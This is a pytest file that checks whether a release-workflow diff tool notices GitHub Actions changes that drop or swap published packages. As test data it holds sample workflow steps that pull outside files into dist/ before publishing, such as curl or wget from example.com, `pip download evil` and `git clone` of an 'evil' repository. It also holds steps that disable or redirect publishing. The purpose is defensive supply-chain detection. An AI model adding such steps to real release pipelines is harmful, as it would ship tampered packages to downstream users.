"""Issue 37's attacks 1, 2 and 11 on `stagegate continuity`, the ways the first round did
not try, each beside a harmless control that keeps its answer.

1. A release job that no longer publishes what it downloads on a tag run: the publish,
   download or upload step (or the build job) under an `if:` that no tag run satisfies
   (`github.ref == 'refs/heads/main'`, `github.event_name == 'pull_request'`); the publish
   command run after `cd` elsewhere; `find dist -delete`. Each read as an unchanged
   release before (exit 0).
2. Files from outside the run's uploads reaching the publish step: `curl URL > dist/x`,
   `pip download -d dist`, a bucket or another host (`aws s3`, `gsutil`, `scp`, `rsync`),
   `git clone`, `tee`, any command's output redirected into the folder. Each unnamed
   before (exit 0).
11. An upload (in a local composite action or not) whose `path` now takes other files
   was paired with the old one as "the same upload step" (exit 0).

All cases are commits of one repository (a base and a head each), compared in process.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator, Mapping
from typing import Any

import pytest
from test_stream import COMPOSITE, PER_OS, PUBLISH_STEP, SHA

from conftest import Result
from scratch import Repo, init, pin_git

Sg = Callable[..., Result]
WF = ".github/workflows/release.yml"

RELEASE = PER_OS
"""Two wheel legs named by a matrix value, downloaded into dist/ and published (as
test_stream's)."""
"""Two wheel legs downloaded into dist/ and published on a tag."""
PUBLISH = PUBLISH_STEP
UPLOAD = "      - uses: actions/upload-artifact@v4\n"
DOWNLOAD = "      - uses: actions/download-artifact@v4\n"
TWINE = "      - run: twine upload dist/*\n"
WITH_TWINE = RELEASE.replace(PUBLISH, TWINE)
ON_PRS = RELEASE.replace(
    'on:\n  push:\n    tags: ["v*"]\n', 'on:\n  push:\n    tags: ["v*"]\n  pull_request:\n'
)
"""The same workflow, run on pull requests too (its tag run is the release)."""
FROM_GH = RELEASE.replace(
    "      - uses: actions/download-artifact@v4\n        with:\n          pattern: wheels-*\n"
    "          path: dist\n          merge-multiple: true\n",
    "      - run: |\n          gh run download -p 'wheels-*' -D dist\n"
    "          mv dist/*/*.whl dist/\n        env: {GH_TOKEN: x}\n",
)
"""The download by `gh run download`, each artifact in its folder, then moved up."""


def before_publish(base: str, step: str) -> str:
    changed = base.replace(PUBLISH, step + PUBLISH)
    assert changed != base
    return changed


@pytest.fixture(autouse=True)
def _git(monkeypatch: pytest.MonkeyPatch) -> None:
    pin_git(monkeypatch)
    for name in ("GITHUB_STEP_SUMMARY", "GITHUB_EVENT_NAME", "GITHUB_EVENT_PATH"):
        monkeypatch.delenv(name, raising=False)


@pytest.fixture(scope="module")
def repo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Repo]:
    """One repository for every case: each a base commit and a head commit."""
    yield init(tmp_path_factory.mktemp("attacks") / "r")


_MADE: dict[tuple[int, frozenset[tuple[str, str]]], str] = {}
"""The commit made of each set of files, per repository: a base many cases share is
committed once."""


def commit(repo: Repo, files: Mapping[str, str], message: str) -> str:
    key = (id(repo), frozenset(files.items()))
    if key not in _MADE:
        for rel in _WRITTEN.pop(id(repo), ()):
            (repo.root / rel).unlink()
        for rel, text in files.items():
            repo.write(rel, text)
        _WRITTEN[id(repo)] = list(files)
        _MADE[key] = repo.commit(message)
    return _MADE[key]


_WRITTEN: dict[int, list[str]] = {}
"""The files the last commit of each repository holds."""


def compare(
    sg: Sg, repo: Repo, base: Mapping[str, str], head: Mapping[str, str], *, text: bool = False
) -> tuple[int, dict[str, Any], list[str]]:
    """continuity from a commit of ``base``'s files to one of ``head``'s: exit code, the
    JSON, and (``text``) the text lines."""
    first = commit(repo, base, "base")
    second = commit(repo, head, "head")
    data = sg("continuity", "--base", first, "--head", second, "--format", "json", cwd=repo.root)
    lines: list[str] = []
    if text:
        shown = sg("continuity", "--base", first, "--head", second, cwd=repo.root)
        assert shown.code == data.code, shown.output
        lines = shown.out.splitlines()
    return data.code, json.loads(data.out), lines


def lost(data: dict[str, Any]) -> list[list[str]]:
    return [sorted(c["name"] for c in r["lost"]) for r in data["releases"]]


# --------------------------------------------------------------------------- attack 1

NEVER_ON_A_TAG = {
    "publish step on a branch only": (
        RELEASE,
        RELEASE.replace(PUBLISH, PUBLISH + "        if: github.ref == 'refs/heads/main'\n"),
    ),
    "publish step on pull requests only": (
        ON_PRS,
        ON_PRS.replace(PUBLISH, PUBLISH + "        if: github.event_name == 'pull_request'\n"),
    ),
    "download step on pull requests only": (
        ON_PRS,
        ON_PRS.replace(DOWNLOAD, DOWNLOAD + "        if: github.event_name == 'pull_request'\n"),
    ),
    "upload step on pull requests only": (
        ON_PRS,
        ON_PRS.replace(UPLOAD, UPLOAD + "        if: github.event_name == 'pull_request'\n"),
    ),
    "build job on pull requests only": (
        ON_PRS,
        ON_PRS.replace("  wheels:\n", "  wheels:\n    if: github.event_name == 'pull_request'\n"),
    ),
}


@pytest.mark.parametrize("case", sorted(NEVER_ON_A_TAG))
def test_a_step_no_tag_run_takes_ships_nothing_in_the_release(
    sg: Sg, repo: Repo, case: str
) -> None:
    """The `if:` evaluated on each run kind that can carry a tag (three-valued): a step
    that never runs there takes no part in the release."""
    base, head = NEVER_ON_A_TAG[case]
    code, data, _lines = compare(sg, repo, {WF: base}, {WF: head})
    assert code == 1, data
    assert lost(data) == [["wheels-linux", "wheels-mac"]]


ONE_LEG = RELEASE.replace(
    UPLOAD, UPLOAD + "        if: matrix.name == 'linux' || !startsWith(github.ref, 'refs/tags/')\n"
)


def test_an_upload_a_tag_run_skips_in_one_row_is_lost_there(sg: Sg, repo: Repo) -> None:
    code, data, _lines = compare(sg, repo, {WF: RELEASE}, {WF: ONE_LEG})
    assert code == 1, data
    assert lost(data) == [["wheels-mac"]]


TAG_RUN_CONTROLS = {
    # the publish step kept for tags: the same release
    "publish step on tags": (
        RELEASE,
        RELEASE.replace(PUBLISH, PUBLISH + "        if: startsWith(github.ref, 'refs/tags/')\n"),
    ),
    # a TestPyPI step for pull requests beside the real one for tags
    "a second publish step on pull requests": (
        ON_PRS,
        ON_PRS.replace(
            PUBLISH,
            PUBLISH
            + "        if: startsWith(github.ref, 'refs/tags/')\n"
            + PUBLISH
            + "        if: github.event_name == 'pull_request'\n"
            + "        with:\n          repository-url: https://test.pypi.org/legacy/\n",
        ),
    ),
    # a clean-up on pull requests only leaves the tag run's files alone (read as removing
    # them before: a false alarm)
    "rm -rf dist on pull requests only": (
        ON_PRS,
        before_publish(
            ON_PRS, "      - run: rm -rf dist\n        if: github.event_name == 'pull_request'\n"
        ),
    ),
    # an `if:` on what is not known for a tag run may hold there
    "publish step under an env condition": (
        RELEASE,
        RELEASE.replace(PUBLISH, PUBLISH + "        if: env.PUBLISH != 'no'\n"),
    ),
}


@pytest.mark.parametrize("case", sorted(TAG_RUN_CONTROLS))
def test_steps_a_tag_run_may_take_keep_the_release(sg: Sg, repo: Repo, case: str) -> None:
    base, head = TAG_RUN_CONTROLS[case]
    code, data, _lines = compare(sg, repo, {WF: base}, {WF: head})
    assert code == 0, data
    assert lost(data) == [[]]


CD = {
    "cd pkg && twine upload dist/*": "      - run: cd pkg && twine upload dist/*\n",
    "cd on a line of its own": "      - run: |\n          cd build\n          twine upload dist/*\n",
}


@pytest.mark.parametrize("case", sorted(CD))
def test_a_publish_command_after_cd_reads_from_there(sg: Sg, repo: Repo, case: str) -> None:
    code, data, _lines = compare(
        sg, repo, {WF: WITH_TWINE}, {WF: WITH_TWINE.replace(TWINE, CD[case])}
    )
    assert code == 1, data
    assert lost(data) == [["wheels-linux", "wheels-mac"]]


def test_a_publish_command_after_a_cd_not_followed_is_blind(sg: Sg, repo: Repo) -> None:
    head = WITH_TWINE.replace(TWINE, '      - run: cd "$(mktemp -d)" && twine upload dist/*\n')
    code, data, lines = compare(sg, repo, {WF: WITH_TWINE}, {WF: head}, text=True)
    assert code == 1, lines
    (release,) = data["releases"]
    assert release["compared"] is False
    assert lines[1] == (
        "  newly blind: its publish step is not read: twine upload after cd; declare what it "
        "publishes under workflows.publishers (.github/workflows/release.yml:26)"
    )


CD_CONTROLS = {
    "cd and back": "      - run: cd pkg && cd .. && twine upload dist/*\n",
    "cd into dist": "      - run: cd dist && twine upload *\n",
    "a subshell's cd": "      - run: |\n          (cd docs && make html)\n          twine upload dist/*\n",
}


@pytest.mark.parametrize("case", sorted(CD_CONTROLS))
def test_a_cd_that_leaves_the_files_read_keeps_the_release(sg: Sg, repo: Repo, case: str) -> None:
    head = WITH_TWINE.replace(TWINE, CD_CONTROLS[case])
    code, data, _lines = compare(sg, repo, {WF: WITH_TWINE}, {WF: head})
    assert code == 0, data


def test_a_move_after_cd_is_followed_from_there(sg: Sg, repo: Repo) -> None:
    """`gh run download` then `cd dist; mv */*.whl .` is the base's move: the same release
    (a false alarm before: the move was read from the workspace); moving them elsewhere
    from there loses them."""
    same = FROM_GH.replace(
        "          mv dist/*/*.whl dist/\n", "          cd dist\n          mv */*.whl .\n"
    )
    code, data, _lines = compare(sg, repo, {WF: FROM_GH}, {WF: same})
    assert code == 0, data
    away = same.replace("mv */*.whl .", "mv */*.whl ../elsewhere/")
    code, data, _lines = compare(sg, repo, {WF: FROM_GH}, {WF: away})
    assert code == 1, data
    assert lost(data) == [["wheels-linux", "wheels-mac"]]


FIND = {
    "find -delete": "      - run: find dist -name '*.whl' -delete\n",
    "find -exec rm": "      - run: find dist -type f -exec rm {} \\;\n",
}


@pytest.mark.parametrize("case", sorted(FIND))
def test_files_find_removes_are_not_published(sg: Sg, repo: Repo, case: str) -> None:
    code, data, _lines = compare(sg, repo, {WF: RELEASE}, {WF: before_publish(RELEASE, FIND[case])})
    assert code == 1, data
    assert lost(data) == [["wheels-linux", "wheels-mac"]]


def test_a_find_removal_with_tests_not_read_is_blind(sg: Sg, repo: Repo) -> None:
    head = before_publish(RELEASE, "      - run: find dist ! -name '*.tar.gz' -delete\n")
    code, data, _lines = compare(sg, repo, {WF: RELEASE}, {WF: head})
    assert code == 1, data
    assert data["releases"][0]["compared"] is False


@pytest.mark.parametrize(
    "step",
    [
        "      - run: find build -name '*.whl' -delete\n",
        "      - run: find dist -name '*.tar.gz' -delete\n",
    ],
)
def test_a_find_removal_elsewhere_keeps_the_release(sg: Sg, repo: Repo, step: str) -> None:
    code, data, _lines = compare(sg, repo, {WF: RELEASE}, {WF: before_publish(RELEASE, step)})
    assert code == 0, data


# --------------------------------------------------------------------------- attack 2

OUTSIDE = {
    "curl > dist/x": (
        "curl",
        "      - run: curl -sSL https://example.com/e.whl > dist/e-1.0-py3-none-any.whl\n",
    ),
    "wget -qO- > dist/x": (
        "wget",
        "      - run: wget -qO- https://example.com/e.whl > dist/e.whl\n",
    ),
    "cd dist && curl -sSLO": (
        "curl",
        "      - run: cd dist && curl -sSLO https://example.com/e.whl\n",
    ),
    "pip download -d dist": ("pip download", "      - run: pip download evil --no-deps -d dist\n"),
    "python -m pip wheel -w": (
        "pip wheel",
        "      - run: python -m pip wheel evil --no-deps -w dist\n",
    ),
    "aws s3 cp": ("aws s3 cp", "      - run: aws s3 cp s3://bucket/e.whl dist/\n"),
    "aws s3 sync": ("aws s3 sync", "      - run: aws s3 sync s3://bucket/wheels dist\n"),
    "gsutil -m cp": ("gsutil cp", "      - run: gsutil -m cp gs://bucket/e.whl dist/\n"),
    "scp": ("scp", "      - run: scp host:/srv/e.whl dist/\n"),
    "rsync": ("rsync", "      - run: rsync -a host:/srv/wheels/ dist/\n"),
    "git clone": ("git clone", "      - run: git clone https://example.com/evil.git dist/evil\n"),
    "tee": (
        "tee",
        "      - run: curl -sSL https://example.com/e.whl | tee dist/e.whl >/dev/null\n",
    ),
    "echo >": ("echo >", "      - run: echo x > dist/e-1.0-py3-none-any.whl\n"),
}


@pytest.mark.parametrize("case", sorted(OUTSIDE))
def test_files_from_outside_the_run_are_named(sg: Sg, repo: Repo, case: str) -> None:
    what, step = OUTSIDE[case]
    code, data, _lines = compare(sg, repo, {WF: RELEASE}, {WF: before_publish(RELEASE, step)})
    assert code == 1, data
    (release,) = data["releases"]
    assert [f["what"].partition(" into ")[0] for f in release["foreign"]] == [what], release


def test_a_download_of_another_run_by_its_id_is_blind(sg: Sg, repo: Repo) -> None:
    """`actions/download-artifact` with `run-id:` beside the run's own download."""
    step = (
        "      - uses: actions/download-artifact@v4\n        with:\n          run-id: 123456789\n"
        "          github-token: ${{ secrets.GITHUB_TOKEN }}\n          name: wheels-linux\n"
        "          path: dist\n"
    )
    code, _data, lines = compare(
        sg, repo, {WF: RELEASE}, {WF: before_publish(RELEASE, step)}, text=True
    )
    assert code == 1, lines
    assert lines[1].startswith(
        "  newly blind: its files come from another run (123456789) and nothing read here says "
        "which workflow's run it is; declare it under workflows.runs"
    ), lines


OUTSIDE_CONTROLS = {
    "curl to a pipe": "      - run: curl -sSL https://example.com/notes | head\n",
    "pip install": "      - run: pip install twine\n",
    "an upload to a bucket": "      - run: aws s3 cp dist/ s3://bucket/ --recursive\n",
    "rsync on the machine": "      - run: rsync -a dist/ backup/\n",
    "> $GITHUB_OUTPUT": '      - run: echo "n=$(ls dist | wc -l)" >> "$GITHUB_OUTPUT"\n',
    "> /dev/null": "      - run: ls dist > /dev/null\n",
    "sums beside dist": "      - run: sha256sum dist/* > SHA256SUMS.txt\n",
}


@pytest.mark.parametrize("case", sorted(OUTSIDE_CONTROLS))
def test_commands_that_bring_nothing_into_the_folder_are_not_named(
    sg: Sg, repo: Repo, case: str
) -> None:
    head = before_publish(RELEASE, OUTSIDE_CONTROLS[case])
    code, data, _lines = compare(sg, repo, {WF: RELEASE}, {WF: head})
    assert code == 0, data
    assert data["releases"][0]["foreign"] == []


# --------------------------------------------------------------------------- attack 11

MOVED = RELEASE.replace(
    "      - uses: actions/upload-artifact@v4\n        with:\n          name: wheels-${{ matrix.name }}\n"
    "          path: wheelhouse/*.whl\n",
    "      - uses: ./.github/actions/upload\n        with:\n          name: wheels-${{ matrix.name }}\n",
)
ACTION = ".github/actions/upload/action.yml"


def test_an_upload_whose_path_takes_other_files_is_lost_and_gained(sg: Sg, repo: Repo) -> None:
    """Moved into a composite action and made to take the sdists: not the same upload
    (the control, moved unchanged, is test_stream's composite test, and below)."""
    changed = COMPOSITE.replace("path: wheelhouse/*.whl", "path: wheelhouse/*.tar.gz")
    code, data, lines = compare(sg, repo, {WF: RELEASE}, {WF: MOVED, ACTION: changed}, text=True)
    assert code == 1, lines
    (release,) = data["releases"]
    assert sorted(c["path"] for c in release["lost"]) == ["wheelhouse/*.whl"] * 2
    assert sorted(c["path"] for c in release["gained"]) == ["wheelhouse/*.tar.gz"] * 2
    assert (
        "  gained: wheels{os=macos-13, name=mac} ('wheels-mac', path 'wheelhouse/*.tar.gz', "
        ".github/actions/upload/action.yml:9)" in lines
    ), lines


@pytest.mark.parametrize("path", ["wheelhouse/*.tar.gz", "wheelhouse/", "."])
def test_an_upload_step_that_takes_other_files_is_not_a_rename(
    sg: Sg, repo: Repo, path: str
) -> None:
    head = RELEASE.replace("path: wheelhouse/*.whl", f"path: {path}")
    code, data, _lines = compare(sg, repo, {WF: RELEASE}, {WF: head})
    assert code == 1, data
    assert lost(data) == [["wheels-linux", "wheels-mac"]]


def test_an_upload_moved_unchanged_or_spelled_otherwise_is_the_same(sg: Sg, repo: Repo) -> None:
    code, data, _lines = compare(sg, repo, {WF: RELEASE}, {WF: MOVED, ACTION: COMPOSITE})
    assert code == 0, data
    spelled = RELEASE.replace("path: wheelhouse/*.whl", "path: ./wheelhouse/*.whl")
    code, data, _lines = compare(sg, repo, {WF: RELEASE}, {WF: spelled})
    assert code == 0, data


def test_a_script_with_an_expression_over_lines_is_read_whole(sg: Sg, repo: Repo) -> None:
    """The lines a script's commands are read from are those of its evaluated text: an
    expression spanning lines (aio-libs/multidict's `pip install '${{ ... }}'`) is not
    cut in half (it was invalid input, exit 2, once `pip` lines were read)."""
    step = (
        "      - run: >-\n          python -Im pip install '${{\n"
        "            endsWith(github.ref, '-dev') && '.' || 'dist/x.whl'\n          }}'\n"
    )
    code, data, _lines = compare(sg, repo, {WF: RELEASE}, {WF: before_publish(RELEASE, step)})
    assert code == 0, data


# --------------------------------------------------------------------------- controls of
# the first round's attacks: the same release written otherwise keeps its answer

SAME_RELEASE = {
    # attack 1's variants, each made harmless: the publish step kept by its if:
    "if: success()": RELEASE.replace(PUBLISH, PUBLISH + "        if: success()\n"),
    # a step between the download and the publish step that moves nothing
    "a step in between": before_publish(RELEASE, "      - run: ls -l dist\n"),
    # another folder removed before it
    "rm -rf build": before_publish(RELEASE, "      - run: rm -rf build\n"),
    # the default packages-dir written out
    "packages-dir: dist/": RELEASE.replace(
        PUBLISH, PUBLISH + "        with:\n          packages-dir: dist/\n"
    ),
    # defaults.run moves run: steps, not the publish action
    "defaults.run.working-directory": RELEASE.replace(
        "  publish:\n",
        "  publish:\n    defaults:\n      run:\n        working-directory: pkg\n",
    ),
}


@pytest.mark.parametrize("case", sorted(SAME_RELEASE))
def test_the_same_release_written_otherwise_keeps_its_answer(sg: Sg, repo: Repo, case: str) -> None:
    code, data, _lines = compare(sg, repo, {WF: RELEASE}, {WF: SAME_RELEASE[case]})
    assert code == 0, data
    assert (lost(data), data["releases"][0]["compared"]) == ([[]], True)




def test_a_pin_whose_comment_names_another_backend_fails(sg: Sg, repo: Repo) -> None:
    """Attack 7's other half: `@SHA # v3.1.3` is read as v3, which the v4 download cannot
    see; the control, `# v4.6.2`, is the same release."""
    v3 = RELEASE.replace(UPLOAD, f"      - uses: actions/upload-artifact@{SHA} # v3.1.3\n")
    code, data, _lines = compare(sg, repo, {WF: RELEASE}, {WF: v3})
    assert code == 1, data
    assert lost(data) == [["wheels-linux", "wheels-mac"]]
    v4 = RELEASE.replace(UPLOAD, f"      - uses: actions/upload-artifact@{SHA} # v4.6.2\n")
    code, data, _lines = compare(sg, repo, {WF: RELEASE}, {WF: v4})
    assert code == 0, data


TRIGGERS = {
    "release": "on:\n  release:\n    types: [published]\n",
    "workflow_dispatch": "on: workflow_dispatch\n",
    "workflow_run": "on:\n  workflow_run:\n    workflows: [CI]\n    types: [completed]\n",
    "create beside pull_request": "on: [create, pull_request]\n",
    "push without filters": "on: push\n",
}


@pytest.mark.parametrize("case", sorted(TRIGGERS))
def test_every_trigger_that_can_carry_a_tag_makes_a_release(sg: Sg, repo: Repo, case: str) -> None:
    """Attack 4: a leg dropped from a release started by each event that can carry a tag."""
    base = RELEASE.replace('on:\n  push:\n    tags: ["v*"]\n', TRIGGERS[case])
    head = base.replace("          - {os: macos-13, name: mac}\n", "")
    code, data, _lines = compare(sg, repo, {WF: base}, {WF: head})
    assert code == 1, data
    assert lost(data) == [["wheels-mac"]]


@pytest.mark.parametrize(
    "on", ["on:\n  schedule:\n    - cron: '0 0 * * *'\n", "on:\n  push:\n    branches: [main]\n"]
)
def test_a_workflow_no_tag_starts_is_no_release(sg: Sg, repo: Repo, on: str) -> None:
    base = RELEASE.replace('on:\n  push:\n    tags: ["v*"]\n', on)
    head = base.replace("          - {os: macos-13, name: mac}\n", "")
    code, data, _lines = compare(sg, repo, {WF: base}, {WF: head})
    assert (code, data["releases"]) == (0, []), data
